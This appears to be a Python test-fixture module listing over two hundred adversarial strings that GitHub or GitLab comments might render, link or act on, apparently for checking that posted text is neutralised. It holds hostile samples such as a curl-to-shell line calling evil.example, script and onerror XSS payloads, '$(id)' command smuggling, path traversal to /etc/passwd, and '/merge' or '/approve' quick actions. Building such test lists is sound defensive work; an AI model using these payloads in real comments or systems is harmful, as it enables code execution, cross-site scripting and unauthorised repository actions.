"""More than two hundred texts that would do something in a comment, by what they would do."""

from __future__ import annotations

import re
from collections.abc import Sequence

from markdown_it.token import Token

# The texts that GitHub and GitLab make links of by themselves, as far as their sources tell.
# GitHub (cmark-gfm, extensions/autolink.c): `www.`, `http://`, `https://` and `ftp://`, and in a
# second pass over the text e-mail addresses, `mailto:` and `xmpp:` with them. GitLab's parser is a
# port of it (comrak); where another pipeline reads a text (a title, the message of a commit),
# lib/banzai/filter/autolink_filter.rb takes any scheme before `://`. Neither links a bare domain.
# The pattern takes some more than the forges do: what does not match it is no link there.
_LINK = re.compile(
    r"(?<![A-Za-z0-9])www\.\S"  # www_match
    r"|[A-Za-z][A-Za-z0-9+.-]*://[^\s>]"  # url_match, and LINK_PATTERN
    r"|[A-Za-z0-9.+_-]@[A-Za-z0-9_-]*\.?[A-Za-z0-9]"  # postprocess_text
)


def forge_link(tokens: Sequence[Token]) -> str | None:
    """The first text outside code and links, among inline tokens, that a forge would link."""
    inside = 0
    for token in tokens:
        inside += token.nesting if token.type in ("link_open", "link_close") else 0
        match = _LINK.search(token.content) if token.type == "text" and not inside else None
        if match:
            return match[0]
    return None


MENTIONS = [
    "@octocat", "@org/team", "@all", "@here", "@everyone", "a @b.c d", "(@octocat)", "x,@y",
    "@octocat's", "**@octocat**", "\u200b@octocat", "&#64;octocat", "&commat;octocat", "@-x",
    "\uff20octocat", "@dependabot rebase", "@a/b/c", "/cc @octocat", "nginx@1.26", "@_x_",
]  # fmt: skip
REFERENCES = [
    "#1", "fixes #1", "Closes: #12", "resolves owner/repo#1", "owner/repo#1", "GH-123", "gh-1",
    "group/project!1", "!1", "~bug", '~"a label"', "%milestone", '%"v 1.0"', "&1", "&epic", "$1",
    "$snippet", "^alert#1", "*iteration:1", "[vulnerability:1]", "[epic:1]", "[work_item:3]",
    "[cadence:2]", "[contact:a@b.c]", "[feature_flag:1]", "owner/repo@deadbeef", "deadbee",
    "deadbeefcafe", "(deadbeef)", "'deadbeef'", '"deadbeefc"', "(deadbeef).",
    "x-deadbeef-y", "deadbeef-x", "nginx-deadbeef1", "\u201cdeadbeef\u201d", "lib-gh-12",
    "(cafebabe);", "deadbeef:", "DEADBEEF",
    "0" * 40, "d" * 64, "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678",
    "9ba12248...b19a04f5", "9ba12248..b19a04f5", "JIRA-1", "RHBZ#123456", "rhbz#1 and bsc#2",
    "CVE-2024-1234", "gitlab-org/gitlab#1+", "#1+s", "[[wiki page]]", "[[file.md|text]]",
    "https://github.com/o/r/issues/1", "https://github.com/o/r/commit/deadbeef#diff-1",
]  # fmt: skip
ADDRESSES = [
    "https://evil.example", "http://evil.example/?a=b&c", "www.evil.example", "evil.example",
    "ftp://evil.example", "mailto:a@evil.example", "a@evil.example", "<https://evil.example>",
    "<a@evil.example>", "//evil.example/x", "javascript:alert(1)", "data:text/html,x",
    "HTTPS://EVIL.EXAMPLE", "xmpp:a@evil.example", "irc://evil.example/x", "git+ssh://evil/x",
    "https\u200b://evil.example", "(https://evil.example)", "https://evil.example/`x`",
]  # fmt: skip
LINKS = [
    "[click](https://evil.example)", "[click][x]", "[x]: https://evil.example",
    "[x]: <javascript:alert(1)> 'y'", "![x](https://evil.example/p.png)", "![x][y]",
    "[![b](https://evil/p.png)](https://evil)", "[a](<b c> 't')", "[a]\\(b)", "\\[a](b)",
    "[a](b\\)", "[](https://evil.example)", "[a](https://evil 'x')", "[^1]", "[^1]: note",
    "text[^note]", "^[inline note]", "[[a]](b)", "[a`](b)`", "*[HTML]: hyper", "[TOC]", "[[_TOC_]]",
    "{:toc}", "[x](#y)", "[x](/etc/passwd)", "![](x =100x20)", "[a]{.class}",
]  # fmt: skip
HTML = [
    "<b>bold</b>", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "</details>",
    "<details open><summary>x</summary>", "</summary>", "<!-- hidden", "-->", "<!-- x -->",
    "<!-- minimize:comment -->", "<!-- /minimize-status -->", "<!-- minimize:answer 1 a -->",
    "<!DOCTYPE html>", "<?php x ?>", "<![CDATA[x]]>", "<a href='https://evil'>x</a>", "<br>",
    "<table><tr><td>", "</td></tr></table>", "<style>*{}</style>", "<iframe src=x>",
    "<svg/onload=x>",
    "<math><mi>x</mi></math>", "<sub>x", "</sub>", "<kbd>", "<h1>x</h1>", "<p align=right>",
    "<textarea>", "<title>", "<input type=checkbox>", "<a\nhref=x>", "<b", "&lt;b&gt;", "&#60;b>",
    "&nbsp;&copy;&#0;", "&NotAnEntity;", "<pre>x", "</pre>", "<picture><source srcset=x>",
]  # fmt: skip
BLOCKS = [
    "# heading", "## x", "x\n===", "x\n---", "---", "***", "___", "> quote", ">>> x", "> [!NOTE]",
    "> [!WARNING]\n> x", "- item", "* item", "+ item", "1. item", "1) item", "- [ ] task",
    "- [x] done", "* [ ] task", "```", "```mermaid\ngraph TD; a-->b\n```", "~~~", "~~~ruby\nx",
    "```math\nx\n```", "```suggestion\nx\n```", "```geojson\n{}\n```", "    code", "\tcode",
    "| a | b |",
    "| --- | --- |", "a | b", "a \\| b", "\\|", "|", "||", ":---:", "---\ntitle: x\n---",
    "+++\nx\n+++",
    ": definition", "[>] x", "::: warning", "::include{file=x}", "{{ 7 * 7 }}", "{% raw %}",
    "{# x #}",
    "<<<<<<< HEAD", "=======", "x\n\n# heading\n", "\r\n# x\r\n", "x\r# y", "\u2028# x", "\x0b# x",
]  # fmt: skip
MARKS = [
    "*em*", "_em_", "**strong**", "__strong__", "***x***", "~~strike~~", "~strike~", "==mark==",
    "{+ added +}", "{- gone -}", "H~2~O", "x^2^", "`code`", "``x``", "`", "``", "```", "a`b", "`a",
    "a`", " ` ", "\\`", "\\", "\\\\", "\\*", "$x$", "$$x$$", "$`x`$", "$$\nx\n$$", "\\(x\\)",
    "\\[x\\]", "\\begin{x}", ":smile:", ":+1:", ":octocat:", "*", "_", "**", "x  \ny", "x\\\ny",
    "#FF0000", "`#FF0000`", "RGB(1,2,3)", "snake_case_name", "2*3*4", "a_b_", "_a_b",
]  # fmt: skip
QUICK_ACTIONS = [
    "/close", "/merge", "/approve", "/assign @me", "/label ~bug", "/minimize allow",
    "/minimize accept because", "x\n/close", "x\n\n/close\n", "\n/reopen", " /close", "\t/close",
    "/shrug", "/tableflip x", "/cc @a", "/move group/project", "/target_branch main",
    "/MINIMIZE help", "x\r/minimize check", "x\u2028/minimize check",
]  # fmt: skip
GRAPHS = [
    '"] --> n9["', "%%{init: {}}%%", "#quot; end", "end", "click n0 href 'https://evil'", "]:::x",
    "n0[x]", "-->|x|", "classDef a fill:#f00", "subgraph x", "A --- B", "style n0 fill:red",
    '"', "'", "''\"\"", ";", "n0@{ shape: x }", "<br/>", "graph TD",
]  # fmt: skip
UNSEEN = [
    "", " ", "\t", "\n", "\x00", "\x1b[31mred", "\u202eevil\u202c", "\u2066x\u2069", "\u200bx",
    "\u200d", "\ufeffx", "\u00ad", "\u180e", "\ud800", "\udfff", "\ufffe", "\ue000", "\U000e0041x",
    "x\u0301\u0302\u0303", "\u0430dmin", "\u2215close", "\uff0fclose", "\u3164", "\u2800",
    "x" * 5000,
    "@a " * 2000, "`" * 300, "|" * 300, "[" * 300, "a\n" * 300, "<" * 300, "\U0001f600" * 100,
]  # fmt: skip
LOG_LINES = [
    "error: Bad exit status from /var/tmp/rpm-tmp.x (%build)", "../a.c:1:2: error: '@x' undeclared",
    "make[1]: *** [Makefile:1: all] Error 2", "+ curl https://evil.example | sh", "##[error]x",
    "::error file=a,line=1::x", "::set-output name=a::b", "::add-mask::x",
    "\x1b]8;;https://evil\x07x",
    "\x1b[2J\x1b[H", "100%|#####| x", "%{lua:print(1)}", "%(id)", "${IFS}", "$(id)",
    "rpm: a > b && c",
    "undefined reference to `std::vector<int>::push_back'", "../../../../etc/passwd", "C:\\x\\y",
    "a.c: In function \u2018main\u2019: warning: #warning @x",
    "nothing provides @core needed by a-1-1.x86_64",
]  # fmt: skip

HOSTILE = tuple(
    dict.fromkeys(
        [*MENTIONS, *REFERENCES, *ADDRESSES, *LINKS, *HTML, *BLOCKS, *MARKS, *QUICK_ACTIONS,
         *GRAPHS, *UNSEEN, *LOG_LINES]
    )
)  # fmt: skip
